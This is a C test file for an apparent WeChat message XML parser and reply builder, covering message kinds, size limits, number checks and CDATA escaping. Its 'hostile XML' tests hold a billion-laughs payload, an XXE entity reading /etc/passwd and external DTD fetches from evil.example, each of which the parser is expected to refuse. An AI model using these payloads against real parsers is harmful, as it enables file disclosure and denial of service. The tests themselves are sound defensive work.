/*
 * test_wechat_xml.c - inbound message XML (every message and event kind of the README's
 * examples, and everything the parser must refuse: size, depth, DTDs and entities, PIs,
 * wrong root, bad numbers, duplicates, garbage) and the passive reply builders (exact bytes,
 * CDATA escaping, buffer limits).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "wechat/wechat.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static struct wx_wechat_msg m;
static struct wx_wechat_xml_error err;
static char body[WX_WECHAT_BODY_MAX + 64];

static int parse(const char *xml)
{
    memset(&err, 0, sizeof err);
    return wx_wechat_msg_parse(xml, strlen(xml), &m, &err);
}

static void expect_ok(const char *xml)
{
    int rc = parse(xml);
    if (rc != 0) fail_msg("rejected: %s", err.why);
}

/* The body is rejected, and the reason is exactly why (or starts with it, when prefix). */
static void expect_reject_as(const char *xml, const char *why, bool prefix)
{
    assert_int_equal(parse(xml), WX_WECHAT_EPARSE_XML);
    if (prefix) {
        if (strncmp(err.why, why, strlen(why)) != 0) fail_msg("why: %s", err.why);
    } else {
        assert_string_equal(err.why, why);
    }
}

static void expect_reject(const char *xml, const char *why)
{
    expect_reject_as(xml, why, false);
}

/* A plain message around some fields: <xml> + the four required ones + extra. */
#define HEAD(type)                                                                                 \
    "<xml><ToUserName><![CDATA[toUser]]></ToUserName>"                                             \
    "<FromUserName><![CDATA[fromUser]]></FromUserName>"                                            \
    "<CreateTime>1348831860</CreateTime><MsgType><![CDATA[" type "]]></MsgType>"
#define EVENT_HEAD(ev)                                                                             \
    "<xml><ToUserName><![CDATA[toUser]]></ToUserName><FromUserName><![CDATA[FromUser]]>"           \
    "</FromUserName><CreateTime>123456789</CreateTime><MsgType><![CDATA[event]]></MsgType>"        \
    "<Event><![CDATA[" ev "]]></Event>"

/* ---- every kind of message -------------------------------------------------------------- */

static void test_text_message(void **state)
{
    (void)state;
    /* The official example, MsgDataId / Idx included (ignored: they are not fields we use). */
    expect_ok("<xml>\n<ToUserName><![CDATA[toUser]]></ToUserName>\n"
              "<FromUserName><![CDATA[fromUser]]></FromUserName>\n"
              "<CreateTime>1348831860</CreateTime>\n<MsgType><![CDATA[text]]></MsgType>\n"
              "<Content><![CDATA[this is a test]]></Content>\n"
              "<MsgId>1234567890123456</MsgId>\n<MsgDataId>xxxx</MsgDataId>\n<Idx>xxxx</Idx>\n"
              "</xml>");
    assert_string_equal(m.to_user, "toUser");
    assert_string_equal(m.from_user, "fromUser");
    assert_int_equal(m.create_time, 1348831860);
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_TEXT);
    assert_string_equal(m.msg_type_text, "text");
    assert_string_equal(m.content, "this is a test");
    assert_true(m.msg_id == 1234567890123456ULL);
    assert_string_equal(m.msg_id_text, "1234567890123456");
    assert_int_equal(m.event, WX_WECHAT_EVENT_NONE);
    assert_true(wx_wechat_msg_has(&m, "MsgId"));
    assert_false(wx_wechat_msg_has(&m, "MsgID"));
    assert_false(wx_wechat_msg_has(&m, "Encrypt"));
    assert_false(wx_wechat_msg_has(&m, "MsgDataId")); /* not a field of ours */
    assert_false(wx_wechat_msg_has(&m, "msgid"));     /* names are case-sensitive */

    /* Empty Content is present and empty; entities and character references are decoded. */
    expect_ok(HEAD("text") "<Content></Content></xml>");
    assert_true(wx_wechat_msg_has(&m, "Content"));
    assert_string_equal(m.content, "");
    expect_ok(HEAD("text") "<Content>a &lt;b&gt; &amp; &#x4e2d;&#25991;</Content></xml>");
    assert_string_equal(m.content, "a <b> & \xe4\xb8\xad\xe6\x96\x87");
    /* A "]]>" split over two CDATA sections comes back whole. */
    expect_ok(HEAD("text") "<Content><![CDATA[x]]]]><![CDATA[>y]]></Content></xml>");
    assert_string_equal(m.content, "x]]>y");
    /* Attributes and comments carry nothing; an XML declaration is fine. */
    expect_ok("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" HEAD(
        "text") "<!-- note --><Content lang=\"en\">hi</Content></xml>");
    assert_string_equal(m.content, "hi");
}

static void test_media_messages(void **state)
{
    (void)state;
    expect_ok(HEAD("image") "<PicUrl><![CDATA[this is a url]]></PicUrl>"
                            "<MediaId><![CDATA[media_id]]></MediaId><MsgId>1234567890123456</MsgId>"
                            "</xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_IMAGE);
    assert_string_equal(m.pic_url, "this is a url");
    assert_string_equal(m.media_id, "media_id");
    assert_true(m.msg_id == 1234567890123456ULL);

    expect_ok(HEAD("voice") "<MediaId><![CDATA[media_id]]></MediaId><Format><![CDATA[amr]]>"
                            "</Format><Recognition><![CDATA[\xe8\x85\xbe\xe8\xae\xaf]]>"
                            "</Recognition><MsgId>1234567890123456</MsgId></xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_VOICE);
    assert_string_equal(m.format, "amr");
    assert_string_equal(m.recognition, "\xe8\x85\xbe\xe8\xae\xaf");

    expect_ok(HEAD("video") "<MediaId><![CDATA[media_id]]></MediaId>"
                            "<ThumbMediaId><![CDATA[thumb_media_id]]></ThumbMediaId>"
                            "<MsgId>1234567890123456</MsgId></xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_VIDEO);
    assert_string_equal(m.thumb_media_id, "thumb_media_id");

    expect_ok(HEAD("shortvideo") "<MediaId><![CDATA[media_id]]></MediaId>"
                                 "<ThumbMediaId><![CDATA[thumb]]></ThumbMediaId></xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_SHORTVIDEO);
    assert_string_equal(m.media_id, "media_id");
}

static void test_location_and_link(void **state)
{
    (void)state;
    expect_ok(HEAD("location") "<Location_X>23.134521</Location_X><Location_Y>-113.358803"
                               "</Location_Y><Scale>20</Scale><Label><![CDATA[\xe4\xbd\x8d\xe7\xbd"
                               "\xae\xe4\xbf\xa1\xe6\x81\xaf]]></Label><MsgId>1234567890123456"
                               "</MsgId></xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_LOCATION);
    assert_string_equal(m.location_x_text, "23.134521");
    assert_string_equal(m.location_y_text, "-113.358803");
    assert_float_equal(m.location_x, 23.134521, 1e-9);
    assert_float_equal(m.location_y, -113.358803, 1e-9);
    assert_float_equal(m.scale, 20.0, 0);
    assert_string_equal(m.label, "\xe4\xbd\x8d\xe7\xbd\xae\xe4\xbf\xa1\xe6\x81\xaf"); /* 位置信息 */

    expect_ok(HEAD("link") "<Title><![CDATA[公众平台官网链接]]></Title>"
                           "<Description><![CDATA[公众平台官网链接]]></Description>"
                           "<Url><![CDATA[url]]></Url><MsgId>1234567890123456</MsgId></xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_LINK);
    assert_string_equal(m.title, "公众平台官网链接");
    assert_string_equal(m.description, "公众平台官网链接");
    assert_string_equal(m.url, "url");

    /* A type we do not know is kept as text, not refused. */
    expect_ok(HEAD("miniprogrampage") "</xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_UNKNOWN);
    assert_string_equal(m.msg_type_text, "miniprogrampage");
    /* Case matters: "Text" is not "text". */
    expect_ok(HEAD("Text") "</xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_UNKNOWN);
}

static void test_events(void **state)
{
    (void)state;
    expect_ok(EVENT_HEAD("subscribe") "</xml>");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_EVENT);
    assert_int_equal(m.event, WX_WECHAT_EVENT_SUBSCRIBE);
    assert_string_equal(m.from_user, "FromUser");
    assert_int_equal(m.create_time, 123456789);
    assert_false(wx_wechat_msg_has(&m, "MsgId"));

    expect_ok(EVENT_HEAD("unsubscribe") "</xml>");
    assert_int_equal(m.event, WX_WECHAT_EVENT_UNSUBSCRIBE);

    expect_ok(EVENT_HEAD("subscribe") "<EventKey><![CDATA[qrscene_123123]]></EventKey>"
                                      "<Ticket><![CDATA[TICKET]]></Ticket></xml>");
    assert_int_equal(m.event, WX_WECHAT_EVENT_SUBSCRIBE);
    assert_string_equal(m.event_key, "qrscene_123123");
    assert_string_equal(m.ticket, "TICKET");

    expect_ok(EVENT_HEAD("SCAN") "<EventKey><![CDATA[SCENE_VALUE]]></EventKey>"
                                 "<Ticket><![CDATA[TICKET]]></Ticket></xml>");
    assert_int_equal(m.event, WX_WECHAT_EVENT_SCAN);
    assert_string_equal(m.event_key, "SCENE_VALUE");

    expect_ok(EVENT_HEAD("CLICK") "<EventKey><![CDATA[EVENTKEY]]></EventKey></xml>");
    assert_int_equal(m.event, WX_WECHAT_EVENT_CLICK);
    assert_string_equal(m.event_key, "EVENTKEY");

    /* VIEW: the docs' placeholder MenuId and a real numeric one are both plain text. */
    expect_ok(EVENT_HEAD("VIEW") "<EventKey><![CDATA[www.qq.com]]></EventKey>"
                                 "<MenuId>MENUID</MenuId></xml>");
    assert_int_equal(m.event, WX_WECHAT_EVENT_VIEW);
    assert_string_equal(m.event_key, "www.qq.com");
    assert_string_equal(m.menu_id, "MENUID");
    expect_ok(EVENT_HEAD("VIEW") "<EventKey><![CDATA[www.qq.com]]></EventKey>"
                                 "<MenuId>439342175</MenuId></xml>");
    assert_string_equal(m.menu_id, "439342175");

    expect_ok(EVENT_HEAD("LOCATION") "<Latitude>23.137466</Latitude><Longitude>113.352425"
                                     "</Longitude><Precision>119.385040</Precision></xml>");
    assert_int_equal(m.event, WX_WECHAT_EVENT_LOCATION);
    assert_float_equal(m.latitude, 23.137466, 1e-9);
    assert_float_equal(m.longitude, 113.352425, 1e-9);
    assert_float_equal(m.precision, 119.385040, 1e-9);
    assert_string_equal(m.precision_text, "119.385040");

    /* Unknown events are kept as text. */
    expect_ok(EVENT_HEAD("MASSSENDJOBFINISH") "</xml>");
    assert_int_equal(m.event, WX_WECHAT_EVENT_UNKNOWN);
    assert_string_equal(m.event_text, "MASSSENDJOBFINISH");
    expect_ok(EVENT_HEAD("Subscribe") "</xml>"); /* case-sensitive */
    assert_int_equal(m.event, WX_WECHAT_EVENT_UNKNOWN);

    assert_string_equal(wx_wechat_event_name(WX_WECHAT_EVENT_TEMPLATESENDJOBFINISH),
                        "TEMPLATESENDJOBFINISH");
    assert_string_equal(wx_wechat_msg_type_name(WX_WECHAT_MSG_SHORTVIDEO), "shortvideo");
    assert_string_equal(wx_wechat_msg_type_name(WX_WECHAT_MSG_UNKNOWN), "");
}

static void test_template_job_finish(void **state)
{
    (void)state;
    /* README §2.1 (official; wechatpy test_events.py): MsgID, not MsgId. */
    expect_ok("<xml><ToUserName><![CDATA[gh_7f083739789a]]></ToUserName>\n"
              "<FromUserName><![CDATA[oia2TjuEGTNoeX76QEjQNrcURxG8]]></FromUserName>\n"
              "<CreateTime>1395658920</CreateTime><MsgType><![CDATA[event]]></MsgType>\n"
              "<Event><![CDATA[TEMPLATESENDJOBFINISH]]></Event><MsgID>200163836</MsgID>\n"
              "<Status><![CDATA[success]]></Status></xml>");
    assert_int_equal(m.event, WX_WECHAT_EVENT_TEMPLATESENDJOBFINISH);
    assert_true(m.template_msg_id == 200163836);
    assert_string_equal(m.template_msg_id_text, "200163836");
    assert_true(m.msg_id == 0);
    assert_false(wx_wechat_msg_has(&m, "MsgId"));
    assert_true(wx_wechat_msg_has(&m, "MsgID"));
    assert_string_equal(m.status, "success");

    expect_ok(EVENT_HEAD("TEMPLATESENDJOBFINISH") "<MsgID>3717005636572528642</MsgID>"
                                                  "<Status><![CDATA[failed: system failed]]>"
                                                  "</Status></xml>");
    assert_true(m.template_msg_id == 3717005636572528642ULL);
    assert_string_equal(m.status, "failed: system failed");
}

static void test_safe_and_compatible_mode(void **state)
{
    (void)state;
    /* Safe mode: only ToUserName and Encrypt. */
    expect_ok("<xml><ToUserName><![CDATA[gh_97417a04a28d]]></ToUserName>"
              "<Encrypt><![CDATA[abcd+/==]]></Encrypt></xml>");
    assert_string_equal(m.to_user, "gh_97417a04a28d");
    assert_string_equal(m.encrypt, "abcd+/==");
    assert_int_equal(m.msg_type, WX_WECHAT_MSG_UNKNOWN);
    assert_false(wx_wechat_msg_has(&m, "MsgType"));
    /* Compatible mode: the plain fields and Encrypt together. */
    expect_ok(HEAD("text") "<Content><![CDATA[hi]]></Content><Encrypt><![CDATA[QUJD]]></Encrypt>"
                           "</xml>");
    assert_string_equal(m.content, "hi");
    assert_string_equal(m.encrypt, "QUJD");
    /* The encrypted reply envelope is readable too (the sandbox plays the platform with it). */
    expect_ok("<xml>\n<Encrypt><![CDATA[QUJD]]></Encrypt>\n<MsgSignature><![CDATA[0123]]>"
              "</MsgSignature>\n<TimeStamp>1411525903</TimeStamp>\n<Nonce><![CDATA[461056294]]>"
              "</Nonce>\n</xml>");
    assert_string_equal(m.encrypt, "QUJD");
}

/* ---- limits ----------------------------------------------------------------------------- */

/* body = HEAD("text") <Content> n copies of unit </Content></xml> */
static const char *content_of(const char *unit, size_t n)
{
    int k = snprintf(body, sizeof body, "%s<Content>", HEAD("text"));
    for (size_t i = 0; i < n; i++)
        k += snprintf(body + k, sizeof body - (size_t)k, "%s", unit);
    snprintf(body + k, sizeof body - (size_t)k, "</Content></xml>");
    return body;
}

static void test_field_caps(void **state)
{
    (void)state;
    /* Content: 2048 characters, counted as characters (3-byte Chinese and 4-byte emoji). */
    expect_ok(content_of("\xe4\xb8\xad", WX_WECHAT_CONTENT_CHARS));
    assert_int_equal(strlen(m.content), 3 * WX_WECHAT_CONTENT_CHARS);
    expect_reject(content_of("\xe4\xb8\xad", WX_WECHAT_CONTENT_CHARS + 1),
                  "xml: Content longer than 2048 characters");
    expect_ok(content_of("\xf0\x9f\x92\xb3", WX_WECHAT_CONTENT_CHARS));
    assert_int_equal(strlen(m.content), 4 * WX_WECHAT_CONTENT_CHARS);
    expect_reject(content_of("a", WX_WECHAT_CONTENT_CHARS + 1),
                  "xml: Content longer than 2048 characters");
    /* Character references count as the character they stand for. */
    expect_ok(content_of("&#x1F4B3;", WX_WECHAT_CONTENT_CHARS));

    /* A byte-capped field: just at and just over. */
    char name[WX_WECHAT_USER_MAX + 2];
    memset(name, 'o', sizeof name - 1);
    name[WX_WECHAT_USER_MAX] = '\0';
    snprintf(body, sizeof body,
             "<xml><ToUserName>gh</ToUserName><FromUserName>%s</FromUserName>"
             "<CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
             name);
    expect_ok(body);
    assert_string_equal(m.from_user, name);
    name[WX_WECHAT_USER_MAX] = 'o';
    name[WX_WECHAT_USER_MAX + 1] = '\0';
    snprintf(body, sizeof body,
             "<xml><ToUserName>gh</ToUserName><FromUserName>%s</FromUserName>"
             "<CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
             name);
    expect_reject(body, "xml: FromUserName longer than 64 bytes");

    /* Encrypt: its own, larger cap. */
    static char enc[WX_WECHAT_ENCRYPT_MAX + 2];
    memset(enc, 'A', WX_WECHAT_ENCRYPT_MAX);
    enc[WX_WECHAT_ENCRYPT_MAX] = '\0';
    snprintf(body, sizeof body, "<xml><Encrypt>%s</Encrypt></xml>", enc);
    expect_ok(body);
    assert_int_equal(strlen(m.encrypt), WX_WECHAT_ENCRYPT_MAX);
    enc[WX_WECHAT_ENCRYPT_MAX] = 'A';
    enc[WX_WECHAT_ENCRYPT_MAX + 1] = '\0';
    snprintf(body, sizeof body, "<xml><Encrypt>%s</Encrypt></xml>", enc);
    expect_reject(body, "xml: Encrypt longer than 16384 bytes");
}

static void test_body_size(void **state)
{
    (void)state;
    /* Exactly WX_WECHAT_BODY_MAX bytes (padded with whitespace between fields) is fine. */
    const char *head = HEAD("text") "<Content>x</Content>";
    size_t n = strlen(head);
    memcpy(body, head, n);
    memset(body + n, ' ', WX_WECHAT_BODY_MAX - n - 6);
    memcpy(body + WX_WECHAT_BODY_MAX - 6, "</xml>", 7);
    assert_int_equal(strlen(body), WX_WECHAT_BODY_MAX);
    expect_ok(body);
    /* One byte more is refused before expat sees it. */
    memcpy(body + WX_WECHAT_BODY_MAX - 6, " </xml>", 8);
    expect_reject(body, "xml: body longer than 65536 bytes");
}

static void test_depth_and_element_count(void **state)
{
    (void)state;
    /* Four levels (a news reply's shape) are fine; unknown nesting is ignored. */
    expect_ok(HEAD("text") "<Articles><item><Title>t</Title></item></Articles></xml>");
    assert_false(wx_wechat_msg_has(&m, "Title")); /* only children of <xml> are fields */
    expect_reject(HEAD("text") "<a><b><c><d>deep</d></c></b></a></xml>",
                  "xml: elements nested deeper than 4");
    /* A known field must hold text only. */
    expect_reject(HEAD("text") "<Content>a<b>bold</b></Content></xml>",
                  "xml: Content must hold text only");

    /* 256 elements in all are fine, 257 are not. */
    int k = snprintf(body, sizeof body, "%s", HEAD("text")); /* 5 elements */
    for (int i = 0; i < 256 - 5; i++)
        k += snprintf(body + k, sizeof body - (size_t)k, "<u/>");
    snprintf(body + k, sizeof body - (size_t)k, "</xml>");
    expect_ok(body);
    snprintf(body + k, sizeof body - (size_t)k, "<u/></xml>");
    expect_reject(body, "xml: more than 256 elements");
}

/* ---- hostile XML ------------------------------------------------------------------------ */

static void test_dtd_entities_pi(void **state)
{
    (void)state;
    expect_reject("<!DOCTYPE xml><xml><Encrypt>a</Encrypt></xml>", "xml: DOCTYPE not allowed");
    /* Billion laughs. */
    expect_reject("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                  "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                  "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>"
                  "<xml><Content>&lol3;</Content></xml>",
                  "xml: DOCTYPE not allowed");
    /* XXE: an external entity, and a parameter entity. */
    expect_reject("<?xml version=\"1.0\"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "
                  "\"file:///etc/passwd\">]>" HEAD("text") "<Content>&xxe;</Content></xml>",
                  "xml: DOCTYPE not allowed");
    expect_reject("<!DOCTYPE xml [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>"
                  "<xml/>",
                  "xml: DOCTYPE not allowed");
    expect_reject("<!DOCTYPE xml SYSTEM \"http://evil.example/x.dtd\"><xml/>",
                  "xml: DOCTYPE not allowed");
    /* An entity that was never declared is a well-formedness error. */
    expect_reject_as(HEAD("text") "<Content>&xxe;</Content></xml>", "xml: line 1, column", true);
    assert_non_null(strstr(err.why, "undefined entity"));
    /* Processing instructions, before and inside the root. */
    expect_reject("<?php echo 1; ?>" HEAD("text") "</xml>",
                  "xml: processing instruction not allowed");
    expect_reject(HEAD("text") "<?xml-stylesheet href=\"a\"?></xml>",
                  "xml: processing instruction not allowed");
}

static void test_structure_and_garbage(void **state)
{
    (void)state;
    expect_reject("<message><Encrypt>a</Encrypt></message>",
                  "xml: root element must be <xml>, not <message>");
    expect_reject("<XML><Encrypt>a</Encrypt></XML>", "xml: root element must be <xml>, not <XML>");
    expect_reject("<a:xml xmlns:a=\"urn:x\"><Encrypt>a</Encrypt></a:xml>",
                  "xml: root element must be <xml>, not <a:xml>");
    expect_reject_as("", "xml: line 1, column 0: no element found", true);
    expect_reject_as("hello, world", "xml: line 1, column 0: syntax error", true);
    expect_reject_as("{\"ToUserName\":\"x\"}", "xml: line 1", true);
    expect_reject_as(HEAD("text") "<Content>cut he", "xml: line 1", true);
    expect_reject_as(HEAD("text") "<Content>x</Conten></xml>", "xml: line 1", true);
    expect_reject_as(HEAD("text") "</xml><xml></xml>", "xml: line 1", true);
    /* A NUL byte, and bytes that are not UTF-8. */
    static const char nul[] = "<xml><Content>a\0b</Content></xml>";
    assert_int_equal(wx_wechat_msg_parse(nul, sizeof nul - 1, &m, &err), WX_WECHAT_EPARSE_XML);
    expect_reject_as(HEAD("text") "<Content>\xff\xfe</Content></xml>", "xml: line 1", true);
    /* A declared legacy encoding is overridden: the bytes are read as UTF-8, and GBK's are not. */
    expect_reject_as(
        "<?xml version=\"1.0\" encoding=\"GBK\"?>" HEAD("text") "<Content>\xd6\xd0</Content></xml>",
        "xml: line 1", true);
    /* err may be NULL. */
    assert_int_equal(wx_wechat_msg_parse("<x/>", 4, &m, NULL), WX_WECHAT_EPARSE_XML);
}

static void test_required_fields(void **state)
{
    (void)state;
    expect_reject("<xml><ToUserName>a</ToUserName></xml>", "xml: neither MsgType nor Encrypt");
    expect_reject("<xml><msgtype>text</msgtype></xml>", "xml: neither MsgType nor Encrypt");
    expect_reject("<xml><MsgType>text</MsgType><ToUserName>a</ToUserName>"
                  "<CreateTime>1</CreateTime></xml>",
                  "xml: FromUserName missing");
    expect_reject("<xml><MsgType>text</MsgType><ToUserName>a</ToUserName>"
                  "<FromUserName>b</FromUserName></xml>",
                  "xml: CreateTime missing");
    expect_reject("<xml><MsgType>text</MsgType><ToUserName>a</ToUserName>"
                  "<FromUserName></FromUserName><CreateTime>1</CreateTime></xml>",
                  "xml: ToUserName, FromUserName and MsgType must not be empty");
    expect_reject(HEAD("event") "</xml>", "xml: event without Event");
}

static void test_numbers_and_duplicates(void **state)
{
    (void)state;
    const char *bad_times[] = {"",
                               "abc",
                               "-1",
                               "+1",
                               " 1",
                               "1 ",
                               "1.5",
                               "0x10",
                               "9223372036854775808",
                               "123456789012345678901234567890123"};
    for (size_t i = 0; i < sizeof bad_times / sizeof bad_times[0]; i++) {
        snprintf(body, sizeof body,
                 "<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName>"
                 "<CreateTime>%s</CreateTime><MsgType>text</MsgType></xml>",
                 bad_times[i]);
        expect_reject(body, "xml: CreateTime is not a valid number");
    }
    expect_ok("<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName>"
              "<CreateTime>9223372036854775807</CreateTime><MsgType>text</MsgType></xml>");
    assert_true(m.create_time == INT64_MAX);

    expect_ok(HEAD("text") "<MsgId>18446744073709551615</MsgId></xml>");
    assert_true(m.msg_id == UINT64_MAX);
    expect_reject(HEAD("text") "<MsgId>18446744073709551616</MsgId></xml>",
                  "xml: MsgId is not a valid number");
    expect_reject(HEAD("text") "<MsgId>-5</MsgId></xml>", "xml: MsgId is not a valid number");
    expect_reject(EVENT_HEAD("TEMPLATESENDJOBFINISH") "<MsgID>x</MsgID></xml>",
                  "xml: MsgID is not a valid number");

    const char *bad_reals[] = {"", "1e5", "nan", "inf", "0x10", "1.", ".5", "--1", "1,5", "- 1"};
    for (size_t i = 0; i < sizeof bad_reals / sizeof bad_reals[0]; i++) {
        snprintf(body, sizeof body, HEAD("location") "<Location_X>%s</Location_X></xml>",
                 bad_reals[i]);
        expect_reject(body, "xml: Location_X is not a valid number");
    }
    expect_reject(HEAD("location") "<Scale>123456789012345678901234567890123</Scale></xml>",
                  "xml: Scale is not a valid number");
    expect_ok(HEAD("location") "<Location_X>-0</Location_X><Scale>007</Scale></xml>");
    assert_float_equal(m.scale, 7.0, 0);

    /* Duplicates of a known field, including the required ones. */
    expect_reject(HEAD("text") "<Content>a</Content><Content>b</Content></xml>",
                  "xml: duplicate Content");
    expect_reject(HEAD("text") "<MsgType>image</MsgType></xml>", "xml: duplicate MsgType");
    expect_reject("<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>", "xml: duplicate Encrypt");
    /* MsgId and MsgID are different fields; unknown elements may repeat. */
    expect_ok(HEAD("text") "<MsgId>1</MsgId><MsgID>2</MsgID><X>1</X><X>2</X></xml>");
    assert_true(m.msg_id == 1 && m.template_msg_id == 2);
}

/* ---- replies ---------------------------------------------------------------------------- */

static char out[WX_WECHAT_REPLY_MAX + 64];

/* An inbound message from follower "fromUser" to our account "toUser". */
static void inbound(void)
{
    expect_ok(HEAD("text") "<Content>hi</Content></xml>");
}

static void test_reply_text(void **state)
{
    (void)state;
    inbound();
    const char *want = "<xml>\n<ToUserName><![CDATA[fromUser]]></ToUserName>\n"
                       "<FromUserName><![CDATA[toUser]]></FromUserName>\n"
                       "<CreateTime>12345678</CreateTime>\n<MsgType><![CDATA[text]]></MsgType>\n"
                       "<Content><![CDATA[\xe4\xbd\xa0\xe5\xa5\xbd]]></Content>\n</xml>";
    int n = wx_wechat_reply_text(&m, 12345678, "\xe4\xbd\xa0\xe5\xa5\xbd", out, sizeof out);
    assert_int_equal(n, (int)strlen(want));
    assert_string_equal(out, want);

    /* It parses back with the addresses swapped. */
    static struct wx_wechat_msg back;
    assert_int_equal(wx_wechat_msg_parse(out, (size_t)n, &back, &err), 0);
    assert_string_equal(back.to_user, "fromUser");
    assert_string_equal(back.from_user, "toUser");
    assert_string_equal(back.content, "\xe4\xbd\xa0\xe5\xa5\xbd");

    /* Exactly enough room (the XML and its NUL), and one byte less. */
    assert_int_equal(
        wx_wechat_reply_text(&m, 12345678, "\xe4\xbd\xa0\xe5\xa5\xbd", out, strlen(want) + 1), n);
    assert_int_equal(
        wx_wechat_reply_text(&m, 12345678, "\xe4\xbd\xa0\xe5\xa5\xbd", out, strlen(want)), -1);
    assert_string_equal(out, "");
}

static void test_reply_cdata_escaping(void **state)
{
    (void)state;
    inbound();
    const char *cases[][2] = {
        {"a]]>b", "<![CDATA[a]]]]><![CDATA[>b]]>"},
        {"]]>", "<![CDATA[]]]]><![CDATA[>]]>"},
        {"x]]>]]>y", "<![CDATA[x]]]]><![CDATA[>]]]]><![CDATA[>y]]>"},
        {"]]]>", "<![CDATA[]]]]]><![CDATA[>]]>"},
        {"]] > ]>", "<![CDATA[]] > ]>]]>"},
        {"<b>&amp;</b>", "<![CDATA[<b>&amp;</b>]]>"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        int n = wx_wechat_reply_text(&m, 1, cases[i][0], out, sizeof out);
        assert_true(n > 0);
        assert_non_null(strstr(out, cases[i][1]));
        /* And every one reads back as it was written. */
        static struct wx_wechat_msg back;
        assert_int_equal(wx_wechat_msg_parse(out, (size_t)n, &back, &err), 0);
        assert_string_equal(back.content, cases[i][0]);
    }
    /* Control characters XML cannot carry; tab, LF and CR are fine. */
    assert_int_equal(wx_wechat_reply_text(&m, 1, "bell\x07", out, sizeof out), -1);
    assert_int_equal(wx_wechat_reply_text(&m, 1, "esc\x1b[0m", out, sizeof out), -1);
    assert_true(wx_wechat_reply_text(&m, 1, "a\tb\nc\r\n", out, sizeof out) > 0);
}

static void test_reply_news(void **state)
{
    (void)state;
    inbound();
    struct wx_wechat_article a[2] = {
        {"title1", "description1", "picurl", "url"},
        {"title2", NULL, NULL, "https://bank.example/m/bill"},
    };
    const char *one = "<xml>\n<ToUserName><![CDATA[fromUser]]></ToUserName>\n"
                      "<FromUserName><![CDATA[toUser]]></FromUserName>\n"
                      "<CreateTime>12345678</CreateTime>\n<MsgType><![CDATA[news]]></MsgType>\n"
                      "<ArticleCount>1</ArticleCount>\n<Articles>\n<item>\n"
                      "<Title><![CDATA[title1]]></Title>\n"
                      "<Description><![CDATA[description1]]></Description>\n"
                      "<PicUrl><![CDATA[picurl]]></PicUrl>\n<Url><![CDATA[url]]></Url>\n"
                      "</item>\n</Articles>\n</xml>";
    int n = wx_wechat_reply_news(&m, 12345678, a, 1, out, sizeof out);
    assert_int_equal(n, (int)strlen(one));
    assert_string_equal(out, one);

    const char *two = "<xml>\n<ToUserName><![CDATA[fromUser]]></ToUserName>\n"
                      "<FromUserName><![CDATA[toUser]]></FromUserName>\n"
                      "<CreateTime>12345678</CreateTime>\n<MsgType><![CDATA[news]]></MsgType>\n"
                      "<ArticleCount>2</ArticleCount>\n<Articles>\n<item>\n"
                      "<Title><![CDATA[title1]]></Title>\n"
                      "<Description><![CDATA[description1]]></Description>\n"
                      "<PicUrl><![CDATA[picurl]]></PicUrl>\n<Url><![CDATA[url]]></Url>\n"
                      "</item>\n<item>\n<Title><![CDATA[title2]]></Title>\n"
                      "<Description><![CDATA[]]></Description>\n<PicUrl><![CDATA[]]></PicUrl>\n"
                      "<Url><![CDATA[https://bank.example/m/bill]]></Url>\n"
                      "</item>\n</Articles>\n</xml>";
    n = wx_wechat_reply_news(&m, 12345678, a, 2, out, sizeof out);
    assert_int_equal(n, (int)strlen(two));
    assert_string_equal(out, two);
    /* A news reply is within the parser's depth limit (xml/Articles/item/Title). */
    static struct wx_wechat_msg back;
    assert_int_equal(wx_wechat_msg_parse(out, (size_t)n, &back, &err), 0);

    /* The most articles allowed. */
    struct wx_wechat_article many[WX_WECHAT_NEWS_MAX];
    for (int i = 0; i < WX_WECHAT_NEWS_MAX; i++)
        many[i] = a[0];
    n = wx_wechat_reply_news(&m, 1, many, WX_WECHAT_NEWS_MAX, out, sizeof out);
    assert_true(n > 0);
    assert_non_null(strstr(out, "<ArticleCount>8</ArticleCount>"));
}

static void test_reply_image_and_transfer(void **state)
{
    (void)state;
    inbound();
    const char *img = "<xml>\n<ToUserName><![CDATA[fromUser]]></ToUserName>\n"
                      "<FromUserName><![CDATA[toUser]]></FromUserName>\n"
                      "<CreateTime>12345678</CreateTime>\n<MsgType><![CDATA[image]]></MsgType>\n"
                      "<Image>\n<MediaId><![CDATA[media_id]]></MediaId>\n</Image>\n</xml>";
    int n = wx_wechat_reply_image(&m, 12345678, "media_id", out, sizeof out);
    assert_int_equal(n, (int)strlen(img));
    assert_string_equal(out, img);

    const char *cs = "<xml>\n<ToUserName><![CDATA[fromUser]]></ToUserName>\n"
                     "<FromUserName><![CDATA[toUser]]></FromUserName>\n"
                     "<CreateTime>1700000000</CreateTime>\n"
                     "<MsgType><![CDATA[transfer_customer_service]]></MsgType>\n</xml>";
    n = wx_wechat_reply_transfer_customer_service(&m, 1700000000, out, sizeof out);
    assert_int_equal(n, (int)strlen(cs));
    assert_string_equal(out, cs);
    assert_int_equal(wx_wechat_reply_transfer_customer_service(&m, 1700000000, out, 10), -1);
}

static void test_reply_max(void **state)
{
    (void)state;
    inbound();
